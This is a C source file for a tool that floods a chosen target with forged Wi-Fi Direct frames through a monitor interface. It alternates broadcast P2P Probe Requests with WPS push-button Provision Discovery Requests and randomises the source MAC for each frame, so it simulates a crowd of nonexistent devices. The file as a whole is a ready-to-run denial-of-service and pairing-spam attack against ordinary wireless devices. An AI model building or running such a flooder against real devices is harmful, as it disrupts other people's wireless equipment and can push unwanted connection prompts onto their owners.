/* A crowd that does not exist: Probe Requests for P2P groups and Provision Discovery Requests from addresses made up for
 * each frame, sent through a monitor interface.
 *   flood INTERFACE TARGET FRAMES_PER_SECOND
 * Ends when it is killed. */
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

static const uint8_t radiotap[] = { 0, 0, 8, 0, 0, 0, 0, 0 };
static const uint8_t broadcast[6] = { 255, 255, 255, 255, 255, 255 };
/* SSID "DIRECT-", rates, P2P: Capability. */
static const uint8_t probe[] = { 0, 7, 'D', 'I', 'R', 'E', 'C', 'T', '-', 1, 8, 12, 18, 24, 36, 48, 72, 96, 108,
    221, 9, 0x50, 0x6f, 0x9a, 9, 2, 2, 0, 0x25, 0 };
/* Public action, P2P, Provision Discovery Request, token; WPS: Config Methods push button. */
static const uint8_t discovery[] = { 4, 9, 0x50, 0x6f, 0x9a, 9, 7, 1, 221, 10, 0, 0x50, 0xf2, 4, 0x10, 8, 0, 2, 0, 0x80 };

static size_t frame(uint8_t *out, uint8_t type, const uint8_t *to, const uint8_t *body, size_t length)
{
    size_t at = sizeof radiotap;
    memcpy(out, radiotap, at);
    out[at++] = type;
    memset(out + at, 0, 3);
    at += 3;
    memcpy(out + at, to, 6);
    for (int i = 0; i < 6; i++)
        out[at + 6 + i] = rand();
    out[at + 6] = (out[at + 6] & 0xfc) | 2;
    memcpy(out + at + 12, to, 6);
    at += 18;
    out[at++] = 0;
    out[at++] = 0;
    memcpy(out + at, body, length);
    return at + length;
}

int main(int argc, char **argv)
{
    uint8_t target[6], buffer[256];
    if (argc != 4 || sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &target[0], &target[1], &target[2], &target[3],
                         &target[4], &target[5]) != 6) {
        fprintf(stderr, "usage: flood INTERFACE TARGET FRAMES_PER_SECOND\n");
        return 2;
    }
    struct sockaddr_ll address = { .sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(argv[1]) };
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (fd < 0 || bind(fd, (struct sockaddr *)&address, sizeof address) < 0) {
        perror(argv[1]);
        return 1;
    }
    struct timespec pause = { 0, 1000000000L / atoi(argv[3]) };
    for (unsigned n = 0;; n++) {
        size_t length = n % 2 ? frame(buffer, 0x40, broadcast, probe, sizeof probe)
                              : frame(buffer, 0xd0, target, discovery, sizeof discovery);
        if (send(fd, buffer, length, 0) < 0)
            perror("send");
        nanosleep(&pause, NULL);
    }
}
